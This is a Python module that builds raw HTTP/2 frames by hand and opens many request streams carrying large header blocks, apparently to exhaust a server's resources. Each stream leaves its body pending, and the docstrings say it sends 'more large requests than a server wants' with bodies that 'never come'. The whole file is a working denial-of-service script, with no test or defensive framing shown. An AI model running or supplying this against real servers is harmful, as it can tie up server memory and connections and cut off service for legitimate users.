"""HTTP/2 in the clear with prior knowledge (RFC 9113, section 3.3), frame by frame: more large requests than a server wants."""

import socket
import struct
from collections.abc import Mapping

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _CONTINUATION = 0x1, 0x4, 0x9
_END_HEADERS = 0x4
_LARGEST_FRAME = 16_384
# A literal that nothing indexes (RFC 7541, section 6.2.2), its lengths in seven bits and what does not fit after them.
_LITERAL = b"\x00"


def open_requests(host: str, port: int, count: int, headers: Mapping[str, str]) -> socket.socket:
    """A connection on which ``count`` requests have begun whose bodies never come."""
    connection = socket.create_connection((host, port), timeout=10)
    block = b"".join(_LITERAL + _text(name) + _text(value) for name, value in headers.items())
    sent = _PREFACE + _frame(_SETTINGS, 0, 0, b"")
    for number in range(count):
        sent += _request(2 * number + 1, block)
    try:
        connection.sendall(sent)
    except OSError:  # the server ends a connection that asks for too much
        connection.settimeout(0)
    return connection


def _request(stream: int, block: bytes) -> bytes:
    pieces = [block[start : start + _LARGEST_FRAME] for start in range(0, len(block), _LARGEST_FRAME)]
    frames = [
        _frame(_CONTINUATION if number else _HEADERS, _END_HEADERS if number == len(pieces) - 1 else 0, stream, piece)
        for number, piece in enumerate(pieces)
    ]
    return b"".join(frames)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _text(text: str) -> bytes:
    value = text.encode("ascii")
    if len(value) < 127:
        return bytes([len(value)]) + value
    length, rest = b"\x7f", len(value) - 127
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + value
